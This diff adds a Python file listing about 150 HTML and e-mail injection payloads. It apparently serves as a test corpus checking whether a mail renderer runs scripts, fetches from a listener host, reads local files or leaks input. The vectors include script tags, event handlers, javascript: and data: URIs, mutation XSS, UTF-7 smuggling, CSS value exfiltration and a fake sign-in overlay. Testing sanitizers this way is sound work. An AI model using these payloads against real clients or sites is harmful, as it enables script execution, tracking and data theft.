@@ -1,0 +1,181 @@
+"""Attacks by mail, each a page in itself. `HOST` stands for our listener; a script that ran would say so in the title.
+
+Written for this program: what runs, what fetches, what leaves its box, and what only becomes one of these after a
+parser has put it right.
+"""
+
+HOST = "{host}"
+RAN = "document.title='RAN';new Image().src='http://{host}/ran'"
+_U = "http://{host}/"
+
+VECTORS: dict[str, str] = {
+    # ---- scripts as such
+    "script": f"<script>{RAN}</script>",
+    "script in capitals": f"<ScRiPt>{RAN}</sCrIpT>",
+    "script that is not closed": f"<script>{RAN}",
+    "script from elsewhere": f"<script src={_U}s.js></script>",
+    "script with a slash": f"<script/x src={_U}s2.js></script>",
+    "script of a module": f"<script type=module>import '{_U}m.js'</script>",
+    "script inside a script's remains": f"<scr<script>ipt>{RAN}</script>",
+    "script after a null": f"<scr\0ipt>{RAN}</scr\0ipt>",
+    "script in svg": f"<svg><script>{RAN}</script></svg>",
+    "script in svg, escaped": "<svg><script>document.title=&#39;RAN&#39;</script></svg>",
+    "script in svg from elsewhere": f"<svg><script href='{_U}svg.js'></script></svg>",
+    "script in math": f"<math><script>{RAN}</script></math>",
+    "script behind a doctype": f"<!doctype html [<!ENTITY x '<script>{RAN}</script>'>]>&x;",
+    "script in xml": f"<?xml version='1.0'?><html:script xmlns:html='http://www.w3.org/1999/xhtml'>{RAN}</html:script>",
+    "script in a noscript": f"<noscript><script>{RAN}</script></noscript>",
+    "script in a comment of old": f"<!--[if gte IE 4]><script>{RAN}</script><![endif]-->",
+    "script behind a comment that ends early": f"<!--><script>{RAN}</script>-->",
+    "script behind a bang": f"<!--!><script>{RAN}</script>--!>",
+    "script in CDATA": f"<svg><![CDATA[><script>{RAN}</script>]]></svg>",
+    "script in a title": f"<title><script>{RAN}</script></title></title><script>{RAN}</script>",
+    "script in a textarea that ends": f"<textarea></textarea><script>{RAN}</script>",
+    "script in a template": f"<template><script>{RAN}</script></template>",
+    "script in a shadow": f"<div><template shadowrootmode=open><script>{RAN}</script></template></div>",
+    # ---- handlers
+    "image that fails": f'<img src=x onerror="{RAN}">',
+    "image without quotes": "<img src=x onerror=document.title='RAN'>",
+    "image with back ticks": "<img src=`x` onerror=document.title='RAN'>",
+    "image with a slash": f'<img/src=x/onerror="{RAN}">',
+    "image with a tab in its handler": f'<img src=x onerror\t=\t"{RAN}">',
+    "image with a form feed": f'<img\x0csrc=x\x0conerror="{RAN}">',
+    "image in quotes of its own": f'<img """><script>{RAN}</script>">',
+    "body that loads": f'<body onload="{RAN}">',
+    "body shown": f'<body onpageshow="{RAN}">',
+    "frameset": f'<frameset onload="{RAN}"><frame src={_U}f></frameset>',
+    "svg that loads": f'<svg onload="{RAN}">',
+    "svg with a slash": f'<svg/onload="{RAN}">',
+    "input with focus": f'<input autofocus onfocus="{RAN}">',
+    "select with focus": f'<select autofocus onfocus="{RAN}"></select>',
+    "text area with focus": f'<textarea autofocus onfocus="{RAN}"></textarea>',
+    "editable with focus": f'<div contenteditable autofocus onfocus="{RAN}" tabindex=1>x</div>',
+    "unknown element with focus": f'<xss id=x tabindex=1 autofocus onfocus="{RAN}"></xss>',
+    "details that open": f'<details open ontoggle="{RAN}">x</details>',
+    "video that fails": f'<video><source onerror="{RAN}"></video>',
+    "audio that fails": f'<audio src=x onerror="{RAN}"></audio>',
+    "marquee": f'<marquee onstart="{RAN}" width=1>x</marquee>',
+    "animation that begins": "<style>@keyframes x{}</style>"
+    f'<b style="animation-name:x" onanimationstart="{RAN}">x</b>',
+    "transition that ends": f'<b style="transition:color 1ms" ontransitionend="{RAN}">x</b>',
+    "popover": f'<button popovertarget=p>x</button><div id=p popover onbeforetoggle="{RAN}">y</div>',
+    "svg animation": f'<svg><animate onbegin="{RAN}" attributeName=x dur=1s></svg>',
+    "svg set": f'<svg><set onbegin="{RAN}" attributeName=x></svg>',
+    "object that fails": f'<object data=x onerror="{RAN}"></object>',
+    "link that loads": f'<link rel=stylesheet href={_U}l.css onload="{RAN}">',
+    "style that loads": f'<style onload="{RAN}"></style>',
+    "meter wheel": f'<meter onwheel="{RAN}">x</meter>',
+    "content visibility": f'<b style="content-visibility:auto" oncontentvisibilityautostatechange="{RAN}">x</b>',
+    # ---- what is followed by itself
+    "refresh": f"<meta http-equiv=refresh content='0;url={_U}refresh'>",
+    "refresh to a script": "<meta http-equiv=refresh content=\"0;url=javascript:document.title='RAN'\">",
+    "refresh to data": f"<meta http-equiv=refresh content='0;url=data:text/html,<script>{RAN}</script>'>",
+    "base": f"<base href={_U}><img src=base.png><a href=x>y</a>",
+    "policy of its own": '<meta http-equiv=Content-Security-Policy content="img-src *; script-src *">'
+    f"<img src={_U}csp.png>",
+    "cookie": "<meta http-equiv=set-cookie content='a=b'>",
+    "frame": f"<iframe src={_U}frame></iframe>",
+    "frame of a script": "<iframe src=\"javascript:parent.document.title='RAN'\"></iframe>",
+    "frame with a page in it": "<iframe srcdoc=\"<script>parent.document.title='RAN'</script>\"></iframe>",
+    "frame of data": f"<iframe src='data:text/html,<script>{RAN}</script>'></iframe>",
+    "frame of files": "<iframe src='file:///etc/passwd'></iframe>",
+    "frame of ourselves": "<iframe src='omnibox-original:page'></iframe>",
+    "fenced frame": f"<fencedframe src={_U}fence></fencedframe><portal src={_U}portal></portal>",
+    "object": f"<object data={_U}object></object>",
+    "object of data": f"<object data='data:text/html,<script>{RAN}</script>'></object>",
+    "embed": f"<embed src={_U}embed>",
+    "embed of a script": "<embed src=\"javascript:document.title='RAN'\">",
+    "applet": f"<applet code=x codebase={_U}></applet>",
+    "form": f"<form action={_U}form><input name=a value=b><button autofocus>x</button></form>",
+    "form by another's button": f"<form id=f></form><button form=f formaction={_U}fa>x</button>",
+    "image as a button": f"<form action={_U}x><input type=image src={_U}button.png></form>",
+    "is index": f"<isindex action={_U}index type=image src={_U}index.png>",
+    # ---- links
+    "link to a script": "<a href=\"javascript:document.title='RAN'\">x</a>",
+    "link with a tab": "<a href=\"java\tscript:document.title='RAN'\">x</a>",
+    "link with an entity": "<a href=\"&#106;avascript:document.title='RAN'\">x</a>",
+    "link with a new line": "<a href=\"&#x0A;javascript:document.title='RAN'\">x</a>",
+    "link with a control": "<a href=\"\x01javascript:document.title='RAN'\">x</a>",
+    "link in VB": "<a href='vbscript:msgbox(1)'>x</a>",
+    "link to data": f"<a href='data:text/html,<script>{RAN}</script>'>x</a>",
+    "link to a file": "<a href='file:///etc/passwd'>x</a>",
+    "link that pings": f"<a href='https://ok.example' ping={_U}ping>x</a>",
+    "link to a share": "<a href='\\\\{host}\\share'>x</a><img src='\\\\{host}\\share\\x.png'>",
+    "area": "<map name=m><area href=\"javascript:document.title='RAN'\" shape=default></map><img usemap=#m src=x>",
+    "svg link": "<svg><a xlink:href=\"javascript:document.title='RAN'\"><text y=20>x</text></a></svg>",
+    "math link": "<math href=\"javascript:document.title='RAN'\">x</math>",
+    # ---- what is fetched
+    "image": f"<img src={_U}i.png>",
+    "image without a scheme": "<img src=//{host}/i2.png>",
+    "image of old": f"<image src={_U}i3.png><img dynsrc={_U}i4 lowsrc={_U}i5>",
+    "image set": f"<img srcset='{_U}i6.png 1x, {_U}i7.png 2x'>",
+    "picture": f"<picture><source srcset={_U}i8.png><img src=x></picture>",
+    "image kept for later": f"<img loading=lazy src={_U}i9.png>",
+    "background": f"<body background={_U}b.png><table background={_U}b2.png><tr><td background={_U}b3.png>x</table>",
+    "video": f"<video src={_U}v.mp4 poster={_U}p.png autoplay></video><audio src={_U}a.mp3 autoplay></audio>",
+    "subtitles": f"<video><track src={_U}t.vtt default></video>",
+    "svg image": f"<svg><image href={_U}s.png xlink:href={_U}s2.png /><use href={_U}s.svg#x /></svg>",
+    "svg filter": f"<svg><feImage href={_U}fe.png /></svg>",
+    "early fetch": f"<link rel=preload as=image href={_U}pre.png><link rel=prefetch href={_U}pf>"
+    f"<link rel=dns-prefetch href=//{HOST}><link rel=preconnect href={_U}><link rel=prerender href={_U}pr>",
+    "icon": f"<link rel=icon href={_U}icon.png><link rel='shortcut icon' href={_U}favicon.ico>",
+    "manifest": f"<link rel=manifest href={_U}manifest.json><link rel=import href={_U}import.html>",
+    "early links by rule": '<script type=speculationrules>{"prefetch":[{"source":"list",'
+    f'"urls":["{_U}spec"]}}]}}</script>',
+    # ---- styles
+    "style that imports": f"<style>@import '{_U}i.css'; @import url({_U}i2.css)</style>",
+    "style with an escape": "<div style='background:u\\72 l(http://{host}/esc.png)'>x</div>",
+    "style with a comment": "<div style='background:/**/url(/**/http://{host}/com.png)'>x</div>",
+    "style in a list": f"<ul style='list-style-image:url({_U}li.png)'><li>x</ul>",
+    "style in a cursor": f"<div style='cursor:url({_U}c.cur),auto'>x</div>",
+    "style in content": f"<style>p::before{{content:url({_U}con.png)}}</style><p>x</p>",
+    "style in a border": f"<div style='border:10px solid;border-image:url({_U}bi.png) 30'>x</div>",
+    "style in a mask": f"<div style='mask:url({_U}mask.svg);-webkit-mask-image:url({_U}m.png)'>x</div>",
+    "style in a filter": f"<div style='filter:url({_U}filter.svg#x);backdrop-filter:url({_U}bf)'>x</div>",
+    "style in a shape": f"<div style='shape-outside:url({_U}shape.png);float:left'>x</div>",
+    "style of a set": f"<div style='background-image:image-set(\"{_U}set.png\" 1x)'>x</div>",
+    "style of a font": f"<style>@font-face{{font-family:f;src:url({_U}f.woff)}}p{{font-family:f}}</style><p>x</p>",
+    "style that asks what is typed": f"<style>input[value^=a]{{background:url({_U}a)}}</style><input value=abc>",
+    "style that runs": "<div style=\"width:expression(document.title='RAN')\">x</div>",
+    "style that binds": f"<div style='-moz-binding:url({_U}x.xml#a);behavior:url({_U}x.htc)'>x</div>",
+    "style over everything": "<div style='position:fixed;inset:0;z-index:9999;background:white'>Sign in</div>",
+    "style by a variable": f"<div style='--x:url({_U}var.png);background:var(--x)'>x</div>",
+    "style of a namespace": f"<svg><style>@import '{_U}ns.css';</style></svg>",
+    "style sheet as data": f"<link rel=stylesheet href=\"data:text/css,@import '{_U}data.css'\">",
+    # ---- what becomes one of these when a parser puts it right
+    "mutation in math": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;'
+    "&lt;img src=1 onerror=document.title='RAN'&gt;\">",
+    "mutation in a form": "<form><math><mtext></form><form><mglyph><style></math>"
+    "<img src onerror=document.title='RAN'>",
+    "mutation in svg": "<svg></p><style><a id=\"</style><img src=1 onerror=document.title='RAN'>\">",
+    "mutation in a noscript": "<noscript><p title=\"</noscript><img src=x onerror=document.title='RAN'>\">",
+    "mutation in an attribute": "<b title=\"</b><img src=x onerror=document.title='RAN'>\">x</b>",
+    "mutation in a title": "<svg><title><style><img src=x onerror=document.title='RAN'></style></title></svg>",
+    "mutation in an annotation": "<math><annotation-xml encoding='text/html'>"
+    "<img src=x onerror=document.title='RAN'></annotation-xml></math>",
+    "mutation in a foreign object": "<svg><foreignObject><iframe "
+    "srcdoc=\"<script>parent.document.title='RAN'</script>\">",
+    "mutation by plain text": "<plaintext><script>document.title='RAN'</script>",
+    "mutation by xmp": "<xmp><p title=\"</xmp><img src=x onerror=document.title='RAN'>\">",
+    "mutation by listing": "<listing>&lt;img src=x onerror=document.title='RAN'&gt;</listing>",
+    "mutation by nesting": "<b>" * 40 + "<svg><p><style><a title=\"</style><img src onerror=document.title='RAN'>\">",
+    "mutation by tables": "<table><caption><svg><title><table><caption></caption></table></title><style>"
+    "<img src=x onerror=document.title='RAN'>",
+    "mutation by select": "<select><template><style></select><img src=x onerror=document.title='RAN'>",
+    "clobbering": "<form id=document><input name=title value=RAN></form><img name=body><a id=location href=x>y</a>",
+    # ---- the carrier
+    "part of somebody else": "<img src='cid:somebody@else'><img src='cid:../../etc/passwd'>",
+    "remote reference of ours": "<img src='cid:remote.aHR0cDovL3tob3N0fS9mb3JnZWQucG5n'>",
+    "picture that is a page": "<img src='data:text/html,<script>document.title=1</script>'>",
+    "picture that is svg": '<img src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg">'
+    f'<image href="{_U}in.png"/></svg>\'>',
+    "charset that hides": "+ADw-script+AD4-document.title='RAN'+ADw-/script+AD4-",
+    "charset that is said late": "<meta charset=utf-7>+ADw-img src=x onerror=document.title='RAN'+AD4-",
+    "socket": f"<script>new WebSocket('ws://{HOST}/ws')</script><link rel=preconnect href='ws://{HOST}'>",
+    "download": f"<a href={_U}file.exe download autofocus>x</a><iframe src={_U}file.zip></iframe>",
+}
+
+
+def pages(host: str) -> dict[str, str]:
+    """Every attack, aimed at a listener."""
+    return {name: page.replace(HOST, host) for name, page in VECTORS.items()}
